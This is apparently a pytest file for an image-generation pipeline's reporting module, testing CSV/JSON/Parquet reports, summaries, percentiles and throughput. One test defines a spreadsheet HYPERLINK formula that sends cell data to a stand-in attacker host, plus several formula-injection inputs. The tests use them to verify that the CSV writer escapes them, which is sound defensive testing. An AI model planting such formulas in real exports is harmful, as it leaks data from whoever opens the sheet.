"""report.csv (and json/parquet) and the summary, read back exactly."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from _outputs_fixture import FakeClock, make_folder

from seedream_pipe.outputs import format_summary, open_output, summarize, write_report
from seedream_pipe.outputs.report import report_frame
from seedream_pipe.outputs.summary import percentile
from seedream_pipe.state import StateStore

EXPECTED_COLUMNS = [
    "job_id",
    "index",
    "subject",
    "style",
    "resolution_label",
    "subject_value",
    "style_value",
    "resolution_value",
    "prompt",
    "resolution",
    "status",
    "request_id",
    "error",
    "attempts",
    "polls",
    "submitted_at",
    "started_at",
    "finished_at",
    "queue_s",
    "generation_s",
    "latency_s",
    "image_url",
    "image_path",
    "width",
    "height",
    "bytes",
    "sha256",
    "possible_duplicate",
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    make_folder(tmp_path)
    return tmp_path


def test_csv_loads_in_pandas_with_the_listed_columns_and_exact_values(folder: Path) -> None:
    path = write_report(open_output(folder))
    assert path == folder / "report.csv"
    frame = pd.read_csv(path)
    assert list(frame.columns[: len(EXPECTED_COLUMNS)]) == EXPECTED_COLUMNS
    assert list(frame["job_id"]) == [f"j{i:03d}" for i in range(1, 9)]
    assert list(frame["status"]) == [
        "downloaded", "downloaded", "failed", "downloaded",
        "downloaded", "cancelled", "downloaded", "in_queue",
    ]  # fmt: skip
    first = frame.iloc[0]
    assert first["index"] == 1
    assert (first["subject"], first["style"], first["resolution_label"]) == (
        "cat",
        "watercolor",
        "1:1",
    )
    assert first["subject_value"] == "a grey cat"
    assert first["resolution_value"] == "2048x2048 (1:1)"
    assert first["resolution"] == "2048x2048 (1:1)"
    assert first["prompt"] == "a grey cat, soft watercolor"
    assert first["request_id"] == "req-j001"
    assert (first["attempts"], first["polls"]) == (1, 3)
    # The fake clock starts at T0 = 1790000000 (2026-09-21T14:13:20Z); job 1 is submitted 1 s
    # later, starts 2 s after that and completes 10 s after that.
    assert first["submitted_at"] == "2026-09-21T14:13:21.000Z"
    assert first["started_at"] == "2026-09-21T14:13:23.000Z"
    assert first["finished_at"] == "2026-09-21T14:13:33.000Z"
    assert (first["queue_s"], first["generation_s"], first["latency_s"]) == (2.0, 10.0, 12.0)
    assert first["image_path"] == "images/0001_j001_cat-watercolor-1-1.png"
    assert first["image_url"] == "https://cdn.runcomfy.net/0001_j001_cat-watercolor-1-1.png"
    assert (first["width"], first["height"]) == (64, 64)
    assert first["bytes"] == (folder / first["image_path"]).stat().st_size
    assert first["sha256"] == "ab" * 32
    assert not first["possible_duplicate"]
    failed = frame.iloc[2]
    assert failed["error"] == "content policy: the prompt was rejected"
    assert pd.isna(failed["width"]) and pd.isna(failed["image_path"])
    assert pd.isna(failed["started_at"]) and failed["latency_s"] == 3.0  # submitted -> failed
    assert failed["finished_at"] == "2026-09-21T14:13:51.000Z"
    # 16:9 images keep their size as integers (no 128.0 from a column with gaps)
    assert frame.iloc[1]["width"] == 128
    with path.open(encoding="utf-8") as f:
        assert ",128,72," in f.read()


def test_json_and_parquet_round_trip(folder: Path) -> None:
    out = open_output(folder)
    records = pd.read_json(write_report(out, fmt="json"))
    assert list(records.columns[: len(EXPECTED_COLUMNS)]) == EXPECTED_COLUMNS
    assert records.loc[0, "latency_s"] == 12.0
    parquet = pd.read_parquet(write_report(out, fmt="parquet"))
    assert list(parquet.columns[: len(EXPECTED_COLUMNS)]) == EXPECTED_COLUMNS
    assert parquet.loc[0, "submitted_at"] == pd.Timestamp("2026-09-21T14:13:21Z")
    assert parquet.loc[3, "width"] == 128


def test_a_report_goes_where_a_notebook_names_it_as_text(folder: Path) -> None:
    out = open_output(str(folder))  # (the folder as text, as a notebook writes it)
    dest = write_report(out, fmt="json", dest=str(folder / "elsewhere.json"))
    assert dest == folder / "elsewhere.json" and len(pd.read_json(dest)) == 8


def test_an_axis_named_like_a_fixed_column_gets_a_label_column(folder: Path) -> None:
    frame = report_frame(open_output(folder).jobs)
    assert "resolution_label" in frame.columns and "resolution_value" in frame.columns
    assert frame.loc[1, "resolution_label"] == "16:9"
    assert frame.loc[1, "resolution"] == "2560x1440 (16:9)"


def test_summary_counts_percentiles_cost_and_pushback(folder: Path) -> None:
    summary = summarize(folder)
    assert (summary.jobs, summary.done, summary.failed, summary.cancelled, summary.pending) == (
        8,
        5,
        1,
        1,
        1,
    )
    assert summary.latency_p50 == 12.0  # five done jobs of 12 s and one failed of 3 s
    assert summary.latency_p90 == 12.0
    assert summary.estimated_cost == pytest.approx(5 * 0.03)
    assert (summary.rate_limited, summary.retries, summary.http_requests) == (2, 3, 40)
    assert summary.wall_s == 75.5  # the run's duration on the fake clock
    assert summary.images_per_minute == pytest.approx(5 / 75.5 * 60)
    # the same figures from an open store
    with StateStore.for_output_dir(folder) as store:
        assert summarize(store).as_dict() == summary.as_dict()
    text = format_summary(summary)
    lines = text.splitlines()
    assert lines[0] == "8 jobs: 5 done, 1 failed, 1 cancelled, 1 not done (1 in_queue)"
    assert lines[1] == "latency p50 12.0s · p90 12.0s · p99 12.0s"
    # (the job in_queue is billed when it finishes, unless cancelled: said apart, as an interrupted
    # run's summary said $0.03 with three jobs it kept running)
    assert lines[2] == "4.0 images/min over 1m15.5s · estimated cost $0.15 (up to $0.03 more for 1 in flight)"
    assert summary.in_flight == 1 and summary.as_dict()["in_flight"] == 1
    assert lines[3] == "429s 2 · retries 3 · HTTP requests 40"
    assert lines[4] == "  failed: job 3 (j003): content policy: the prompt was rejected"  # as `status` says


def test_the_summary_groups_the_thousands_of_every_count_as_of_the_total(folder: Path) -> None:
    # It said "3,000 jobs: 1200 done, ...": the total grouped, the counts not.
    import dataclasses

    big = dataclasses.replace(
        summarize(folder), jobs=3000, counts={"downloaded": 1200, "failed": 1000, "cancelled": 0, "in_queue": 800}
    )
    first = format_summary(big).splitlines()[0]
    assert first == "3,000 jobs: 1,200 done, 1,000 failed, 800 not done (800 in_queue)"


def test_a_resumed_folders_summary_says_it_is_of_every_run(tmp_path: Path) -> None:
    # After a resume, "over 3m19.7s · estimated cost $5.76" read as this run's time and cost;
    # they are the folder's, over all its runs, and now say so.
    one = summarize(make_folder(tmp_path).path)
    assert one.runs == 1 and "runs" not in format_summary(one) and "in all" not in format_summary(one)
    clock = FakeClock(2_000_000_000.0)
    with StateStore.for_output_dir(tmp_path, clock=clock) as store:
        for _ in range(2):  # (two more runs of 10 s each)
            store.start_run(api_host="127.0.0.1")
            clock.now += 10
            store.finish_run(exit_code=0, summary={})
    three = summarize(tmp_path)
    assert three.runs == 3 and three.wall_s == 95.5
    assert "over 1m35.5s of 3 runs · estimated cost $0.15 in all" in format_summary(three)


def test_summary_without_price_or_runs(tmp_path: Path) -> None:
    make_folder(tmp_path, recipe_meta={}, with_run=False)
    summary = summarize(tmp_path)
    assert summary.estimated_cost is None
    assert (summary.rate_limited, summary.retries) == (0, 0)
    assert "no price_per_image" in format_summary(summary)


def test_percentile_interpolates_like_numpy() -> None:
    assert percentile([], 50) is None
    assert percentile([5.0], 99) == 5.0
    assert percentile([1.0, 2.0, 3.0, 4.0], 50) == 2.5
    assert percentile([float(i) for i in range(1, 101)], 90) == pytest.approx(90.1)


def test_throughput_counts_time_spent_running_not_the_night_between_runs(folder: Path) -> None:
    from _outputs_fixture import FakeClock

    clock = FakeClock(start=2_000_000_000.0)  # years after the first run
    with StateStore.for_output_dir(folder, clock=clock) as store:
        store.start_run(api_host="127.0.0.1")
        clock.now += 10.0
        store.finish_run(exit_code=0, summary={"rate_limited": 1})
    summary = summarize(folder)
    assert summary.wall_s == 85.5
    assert summary.images_per_minute == pytest.approx(5 / 85.5 * 60)
    assert summary.rate_limited == 3  # added up over both runs


def test_throughput_without_run_records_uses_first_submit_to_last_image(tmp_path: Path) -> None:
    make_folder(tmp_path, with_run=False)
    summary = summarize(tmp_path)
    assert summary.wall_s == 72.5


def test_the_report_says_which_image_files_are_no_longer_as_downloaded(tmp_path: Path) -> None:
    fx = make_folder(tmp_path)
    fx.image(1).unlink()  # deleted (its thumbnail stays)
    fx.image(5).write_bytes(b"not the image any more")  # overwritten: another size
    frame = pd.read_csv(write_report(open_output(tmp_path)))
    assert list(frame.columns[: len(EXPECTED_COLUMNS)]) == EXPECTED_COLUMNS  # the fixed ones stay
    assert list(frame.columns[len(EXPECTED_COLUMNS) :]) == ["retries", "thumb_path", "model", "image_file"]
    files = dict(zip(frame["job_id"], frame["image_file"], strict=True))
    assert (files["j001"], files["j005"], files["j002"]) == ("missing", "changed", "present")
    assert pd.isna(files["j003"]) and pd.isna(files["j008"])  # no image to have: failed, in queue
    # the job's state and what was downloaded stay as they were: the new column tells the file
    first = frame.iloc[0]
    assert (first["status"], first["sha256"], first["width"]) == ("downloaded", "ab" * 32, 64)


def test_image_file_state_is_a_stat_not_a_hash(tmp_path: Path) -> None:
    from seedream_pipe.outputs._folder import image_file_state

    fx = make_folder(tmp_path, states={})
    jobs = {job.job_index: job for job in open_output(tmp_path).jobs}
    assert image_file_state(jobs[2], tmp_path) == "present"  # its sha256 is fake: never hashed
    fx.image(2).unlink()
    fx.image(2).mkdir()  # not a file
    assert image_file_state(jobs[2], tmp_path) == "missing"


def test_the_summary_counts_possible_duplicates_of_every_run_as_status_does(folder: Path) -> None:
    with StateStore.for_output_dir(folder) as store:
        for job in store.jobs()[:2]:
            store.update(job.job_id, possible_duplicate=True)
    summary = summarize(folder)
    assert summary.possible_duplicates == 2
    assert summary.estimated_cost == pytest.approx((5 + 2) * 0.03)  # the same jobs the cost counts
    assert "possible duplicates: 2 (jobs the API may have taken without a usable answer" in format_summary(summary)
    assert "possible duplicates" not in format_summary(summarize(make_folder(folder.parent / "clean").path))


HOSTILE_ERROR = '=HYPERLINK("https://evil.example/?"&A1, "retry")'


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(tmp_path: Path) -> None:
    make_folder(tmp_path)
    with StateStore.for_output_dir(tmp_path) as store:
        store.update("j003", error=HOSTILE_ERROR)  # a hostile API's "reason"
    folder = open_output(tmp_path)
    frame = pd.read_csv(write_report(folder), keep_default_na=False)
    failed = frame.set_index("job_id").loc["j003"]
    assert failed["error"] == "'" + HOSTILE_ERROR
    # the other formats, and the notebook's frame, keep the API's text exactly
    records = pd.read_json(write_report(folder, fmt="json"), orient="records")
    assert records.set_index("job_id").loc["j003", "error"] == HOSTILE_ERROR
    assert report_frame(folder.jobs).set_index("job_id").loc["j003", "error"] == HOSTILE_ERROR


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+ bokeh, 35mm", "'+ bokeh, 35mm"),
        ("-- moody", "'-- moody"),
        ("\tcmd", "'\tcmd"),
        ("-1", "-1"),  # plain numbers are numbers in a spreadsheet too: kept
        ("+3.5", "+3.5"),
        ("-2e5", "-2e5"),
        ("-1\n=2", "'-1\n=2"),  # a number only up to a line end is not a number
        ("a cat = a dog", "a cat = a dog"),
    ],
)
def test_spreadsheet_safe_marks_formula_text_only(text: str, shown: str) -> None:
    from seedream_pipe.outputs.report import spreadsheet_safe

    frame = pd.DataFrame({"label": [text, None], "width": [1024, None]})
    safe = spreadsheet_safe(frame)
    assert safe["label"][0] == shown
    assert pd.isna(safe["label"][1]) and safe["width"][0] == 1024
    assert frame["label"][0] == text  # the frame given is left as it was


def test_spreadsheet_safe_reads_columns_of_mixed_and_no_text() -> None:
    from seedream_pipe.outputs.report import spreadsheet_safe

    # an axis over a param holds numbers or booleans beside text, or no text at all
    frame = pd.DataFrame(
        {
            "mixed": pd.Series([1, "=x", None, 2.5, True], dtype=object),
            "flags": pd.Series([True, None, False, True, None], dtype=object),
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["mixed"].tolist() == [1, "'=x", None, 2.5, True]
    assert safe["flags"].tolist() == [True, None, False, True, None]
